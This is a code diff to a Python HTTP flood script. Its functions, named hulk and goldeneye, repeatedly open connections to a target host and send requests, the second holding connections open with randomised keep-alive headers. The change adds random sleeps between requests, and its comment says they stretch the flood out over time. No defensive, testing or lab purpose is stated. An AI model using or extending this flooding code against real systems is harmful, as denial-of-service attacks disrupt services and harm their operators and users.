@@ -20,6 +20,10 @@ _AGENTS = (
 )
 
 
+_PAUSE_S = 0.2
+"""Longest pause of a thread between requests; without it the whole flood would be over in a blink."""
+
+
 def main() -> None:
     """Run the flood."""
     parser = argparse.ArgumentParser(description=__doc__)
@@ -50,6 +54,7 @@ def hulk(host: str, count: int, deadline_s: float, chance: random.Random) -> Non
         connection = http.client.HTTPConnection(host, timeout=5)
         _ask(connection, chance)
         connection.close()
+        time.sleep(chance.uniform(0, _PAUSE_S))
 
 
 def goldeneye(host: str, count: int, deadline_s: float, chance: random.Random) -> None:
@@ -59,6 +64,7 @@ def goldeneye(host: str, count: int, deadline_s: float, chance: random.Random) -
         if time.monotonic() > deadline_s:
             break
         _ask(connection, chance, {"Connection": "keep-alive", "Keep-Alive": str(chance.randint(110, 120))})
+        time.sleep(chance.uniform(0, _PAUSE_S))
     connection.close()
 
 
